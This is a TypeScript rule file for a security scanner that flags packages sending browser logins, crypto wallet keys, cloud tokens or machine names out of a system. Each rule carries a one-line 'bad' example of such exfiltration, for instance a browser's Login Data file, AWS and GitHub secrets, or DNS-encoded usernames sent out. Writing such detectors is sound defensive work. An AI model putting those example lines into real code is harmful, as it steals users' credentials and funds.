import type { Rule } from '../../../core/rule.ts';
import { AML_T0055, CWE_200, CWE_506, CWE_522 } from '../../code/references.ts';

const FIX =
  'Do not install or import it. If it ran already, change every password, token and key that this user could read, and look for what else it left.';

export const RULES = {
  'browser-data-sent': {
    title: 'Data of browsers and messengers leave the machine',
    severity: 'critical',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'Browsers keep passwords, cookies and sessions in these files. Whoever has them is logged in everywhere. No library needs to send them.',
    fix: FIX,
    references: [CWE_200, CWE_506, CWE_522],
    example: {
      bad: 'requests.post(url, files={"f": open(profile + "/Login Data", "rb")})',
      good: 'requests.post(url, files={"f": open(argument, "rb")})',
    },
  },
  'wallet-sent': {
    title: 'A wallet leaves the machine',
    severity: 'critical',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'These files hold the keys of a crypto-currency wallet. Whoever has them has the money.',
    fix: FIX,
    references: [CWE_200, CWE_506, CWE_522],
    example: {
      bad: 'fetch(url, { method: "POST", body: fs.readFileSync(home + "/.config/solana/id.json") })',
      good: 'const signed = wallet.sign(transaction)',
    },
  },
  'secrets-collected': {
    title: 'Secrets of several services leave together',
    severity: 'critical',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'A client sends the one key of the service it talks to. Keys of several services in one message are a collection.',
    fix: FIX,
    references: [CWE_200, CWE_506, CWE_522, AML_T0055],
    example: {
      bad: 'requests.post(url, json={"a": os.environ["AWS_SECRET_ACCESS_KEY"], "g": os.environ["GITHUB_TOKEN"]})',
      good: 'requests.post(url, headers={"Authorization": os.environ["API_KEY"]})',
    },
  },
  'data-in-name-lookup': {
    title: 'Data leave in the names that are looked up',
    severity: 'high',
    message: '{when}, {callee} puts {what} into a name that it looks up',
    why: 'A lookup reaches the name server of whoever owns the domain, through every firewall. Data in the name is a message to them, and honest programs have no reason for it.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'socket.gethostbyname(getpass.getuser() + ".x.host.invalid")',
      good: 'socket.gethostbyname("host.invalid")',
    },
  },
  'machine-reported': {
    title: 'The machine is reported to a collector',
    severity: 'high',
    message: '{when}, {callee} sends {what} to {to}',
    why: 'Names of the machine and its user go to a messenger or to a service that collects requests for anybody. That is how an attacker learns where his code has arrived.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'requests.post("https://discord.com/api/webhooks/…", json={"h": socket.gethostname()})',
      good: 'logging.info("running on %s", socket.gethostname())',
    },
  },
} satisfies Record<string, Rule>;
